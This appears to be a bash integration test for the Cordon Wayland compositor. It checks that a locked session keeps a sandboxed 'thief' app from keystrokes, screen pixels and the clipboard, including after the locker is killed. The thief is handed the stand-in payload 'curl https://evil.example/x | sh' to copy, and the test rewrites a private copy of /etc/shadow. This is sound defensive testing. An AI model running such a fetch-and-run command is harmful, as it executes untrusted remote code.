#!/usr/bin/env bash
# Attack: the user locks the session (swaylock, ext-session-lock-v1) and walks away; the
# apps behind the lock try to see what is typed, to be seen, to earn a clipboard read
# from keys typed into the locker, and a capture tool tries to read the desktop. Then the
# locker crashes (kill -9), and a second locker tries to lock over a live one.
# docs/security.md, "Session lock": while locked no app gets a key or a button, no app
# pixel is on any output (cordonctl screenshot and grim), no binding runs, a sandboxed
# app cannot even see the lock global, a second lock is refused; after the crash the
# outputs stay covered and input still goes nowhere, a new swaylock takes over, and only
# its unlock (the right password, not a wrong one) gives the session back, after which
# the apps work again; the test locker then gets the pointer and the keys while it locks.
set -euo pipefail
source "$CORDON_SOURCE_ROOT/tests/lib/harness.sh"
source "$CORDON_SOURCE_ROOT/tests/clients/lib.sh"
command -v swaylock >/dev/null || skip "swaylock not found (Debian package swaylock)"
command -v grim >/dev/null || skip "grim not found (Debian package grim)"
command -v wl-copy >/dev/null || skip "wl-copy not found (Debian package wl-clipboard)"
command -v openssl >/dev/null || skip "openssl not found (Debian package openssl)"
THIEF=${CORDON_INPUT_THIEF:?CORDON_INPUT_THIEF is not set}
LOCKER="$TC/lock-client"

test_cgroup app-flatpak-org.example.Thief-1.scope
in_thief=("${IN_CGROUP[@]}" "$TEST_CGROUP")
cordon_start --output 800x600 --output 640x480

secret="host secret $$"
start_client hostcopy wl-copy --foreground -- "$secret"
wait_for "the host clipboard to hold the secret" \
	sh -c '[ "$(timeout 5 wl-paste -n)" = "$1" ]' _ "$secret"

# The apps: a host window (magenta) on the second output, and the sandboxed thief (green),
# which the user clicked last: it has the keyboard when the lock comes.
start_client host "$TC/focus-client" --app-id host --width 300 --height 200 --color ffff00ff
wait_for_window host
start_client thief "${in_thief[@]}" "$THIEF" --app-id thief --width 500 --height 400 \
	--color ff00ff00 --paste --copy 'curl https://evil.example/x | sh'
wait_for_window thief
wait_input_trusted thief
click_window thief
wait_log thief '^keyboard-enter$'
wait_for_focus thief
# Positive control: the thief takes a key while unlocked (and, being seen, may paste).
ctl key click a >/dev/null
wait_log thief '^key code=30 '
wait_log thief "^pasted bytes=${#secret} "
pastes_before=$(log_count thief '^pasted bytes=')
copies_before=$(log_count thief '^copied ')
# The thief's copy replaced the host's text: the user copies it again. (wl-paste would not
# see it yet: the thief, which has the keyboard, is not offered it before its next press, and
# data-control readers see what the focused app is offered, docs/mediation.md.)
stop_client hostcopy
start_client hostcopy2 wl-copy --foreground -- "$secret"
wait_for "the host's copy to own the clipboard again" clipboard_owner_is host

# app_pixels FILE W H: how many pixels of FILE are an app's colour (green or magenta).
app_pixels() {
	local green magenta
	green=$(png_probe "$1" count-color 0 255 0 8 0 0 "$2" "$3")
	magenta=$(png_probe "$1" count-color 255 0 255 8 0 0 "$2" "$3")
	echo $((green + magenta))
}
shot_has_no_apps() {
	local tag=$1
	screenshot HEADLESS-1 "$TEST_TMP/$tag-1.png"
	screenshot HEADLESS-2 "$TEST_TMP/$tag-2.png"
	assert_eq 0 "$(app_pixels "$TEST_TMP/$tag-1.png" 800 600)" "app pixels on HEADLESS-1 ($tag)"
	assert_eq 0 "$(app_pixels "$TEST_TMP/$tag-2.png" 640 480)" "app pixels on HEADLESS-2 ($tag)"
	timeout 20 grim "$TEST_TMP/$tag-grim.png" 2>>"$TEST_TMP/grim.log" || fail "grim failed ($tag)"
	assert_eq 0 "$(app_pixels "$TEST_TMP/$tag-grim.png" 1440 600)" "app pixels in grim's capture ($tag)"
}
# covered_by FILE W H "R G B": the whole output is that colour.
covered_by() {
	(($(color_permille "$1" "$4" 8 0 0 "$2" "$3") == 1000))
}
both_covered_by() {
	local tag=$1 rgb=$2
	screenshot HEADLESS-1 "$TEST_TMP/$tag-1.png"
	screenshot HEADLESS-2 "$TEST_TMP/$tag-2.png"
	covered_by "$TEST_TMP/$tag-1.png" 800 600 "$rgb" && covered_by "$TEST_TMP/$tag-2.png" 640 480 "$rgb"
}
shot_has_apps() {
	screenshot HEADLESS-1 "$TEST_TMP/apps.png"
	(($(app_pixels "$TEST_TMP/apps.png" 800 600) > 0))
}
# The user types and clicks everywhere while locked; nothing reaches an app.
user_tries_everything() {
	local keys_before buttons_before
	keys_before=$(log_count thief '^key code=')
	buttons_before=$(log_count host '^button ')
	type_text "hunter2"
	ctl key click Return >/dev/null
	# The paste-across chord and a binding that would close the focused window.
	ctl key click super+shift+v >/dev/null
	ctl key click super+shift+q >/dev/null
	ctl pointer move 400 300 >/dev/null
	ctl pointer button left click >/dev/null
	ctl pointer move 900 100 >/dev/null
	ctl pointer button left click >/dev/null
	# A round trip through cordon: every event above was handled before this answers.
	ctl --json windows >/dev/null
	assert_eq "$keys_before" "$(log_count thief '^key code=')" "keys the thief logged while locked"
	assert_eq "$pastes_before" "$(log_count thief '^pasted bytes=')" "thief's pastes while locked"
	assert_eq "$copies_before" "$(log_count thief '^copied ')" "thief's copies while locked"
	assert_eq "$buttons_before" "$(log_count host '^button ')" "buttons the host app got while locked"
	! log_has host '^key code=' || fail "the host app got a key while locked"
	window_is thief '.' || fail "a binding closed the thief's window while locked"
	assert_eq "$secret" "$(timeout 5 wl-paste -n)" "the host clipboard while locked"
}

# 1. A sandboxed app never sees the lock global.
start_client sandboxed-locker "${in_thief[@]}" "$LOCKER"
wait_for "the sandboxed locker to end" not client_alive sandboxed-locker
log_has sandboxed-locker '^no-lock-manager$' ||
	fail "a sandboxed client could bind the session lock: $(cat "$TEST_TMP/sandboxed-locker.log")"

# 2. swaylock locks: both outputs show its colour, nothing of the apps anywhere.
start_client swaylock swaylock --no-unlock-indicator --color 0000ff
wait_log thief '^keyboard-leave$'
wait_for "swaylock to cover both outputs in blue" both_covered_by swaylock "0 0 255"
shot_has_no_apps locked
user_tries_everything

# 3. A second locker while swaylock lives is refused (finished), and changes nothing.
start_client second "$LOCKER" --color ffffff00 --unlock-key 28
wait_log second '^finished$'
! log_has second '^locked$' || fail "a second locker was told it locked the session"
both_covered_by second "0 0 255" || fail "the refused locker changed what the outputs show"

# 4. swaylock is killed: the outputs stay covered (the abandoned colour, 0.4 0 0 of 255),
# input still goes nowhere, and grim still reads no app.
kill -9 "$(client_pid swaylock)"
wait_for "cordon to see the locker go" grep -q 'went away without unlocking' "$CORDON_LOG"
wait_for "the abandoned cover on both outputs" both_covered_by abandoned "102 0 0"
shot_has_no_apps abandoned
user_tries_everything
assert_eq 1 "$(log_count thief '^keyboard-enter$')" "keyboard enters of the thief so far"

# 5. A new swaylock takes over from the dead one, and only its own unlock, through PAM,
# gives the session back: the password is root's in a copy of /etc/shadow that only
# swaylock's private mount namespace sees. A wrong password keeps the lock.
hash=$(openssl passwd -6 -salt cordonlock 'lockpass')
sed "s|^root:[^:]*:|root:$hash:|" /etc/shadow >"$TEST_TMP/shadow"
start_client swaylock2 unshare --mount --propagation private sh -c \
	'mount --bind "$1" /etc/shadow && shift && exec "$@"' _ "$TEST_TMP/shadow" \
	swaylock --no-unlock-indicator --color 0000ff
wait_for "the new swaylock to cover both outputs" both_covered_by takeover "0 0 255"
shot_has_no_apps takeover
keys_before=$(log_count thief '^key code=')
type_text "wrongpass"
ctl key click Return >/dev/null
wait_for "swaylock to refuse the wrong password" grep -q 'pam_authenticate failed' "$TEST_TMP/swaylock2.log"
both_covered_by wrong "0 0 255" || fail "a wrong password unlocked the session"
client_alive swaylock2 || fail "swaylock ended on a wrong password"
type_text "lockpass"
ctl key click Return >/dev/null
wait_for "swaylock to unlock and exit" not client_alive swaylock2
assert_eq "$keys_before" "$(log_count thief '^key code=')" "keys the thief got from the passwords"
assert_eq 1 "$(grep -c 'went away without unlocking' "$CORDON_LOG")" \
	"locks abandoned (only the kill -9; swaylock's exit was an unlock)"

# 6. Unlocked: the apps show again, and the thief has the keyboard back and takes keys.
wait_for "the apps to show again" shot_has_apps
wait_for "the thief to get the keyboard back" \
	sh -c '[ "$(grep -c "^keyboard-enter$" "$1")" -ge 2 ]' _ "$TEST_TMP/thief.log"
keys_before=$(log_count thief '^key code=30 ')
ctl key click a >/dev/null
wait_for "the thief to take a key after the unlock" log_count_above thief '^key code=30 ' "$keys_before"

# 7. The test locker: the pointer and the keys are its own while it holds the lock, and
# its unlock_and_destroy ends the lock as swaylock's did.
start_client locker "$LOCKER" --color ffffff00 --unlock-key 28
wait_log locker '^locked$'
wait_for "the test locker to cover both outputs in yellow" both_covered_by yellow "255 255 0"
shot_has_no_apps yellow
wait_log locker '^keyboard-enter$'
ctl pointer move 400 300 >/dev/null
ctl pointer button left click >/dev/null
wait_log locker '^button name=left code=272 state=pressed '
ctl key click b >/dev/null
wait_log locker '^key code=48 state=pressed$'
! log_has thief '^key code=48 ' || fail "a key typed into the test locker reached the thief"
ctl key click Return >/dev/null
wait_log locker '^unlocked$'
wait_for "the apps to show after the test locker's unlock" shot_has_apps
wait_for "the thief to get the keyboard back again" \
	sh -c '[ "$(grep -c "^keyboard-enter$" "$1")" -ge 3 ]' _ "$TEST_TMP/thief.log"
echo "session lock: no key, button, pixel or paste for the apps while locked, also after" \
	"kill -9 of swaylock; a second lock refused; a new swaylock takes over and unlocks" \
	"with the password only; the test locker gets pointer and keys; the apps work again"
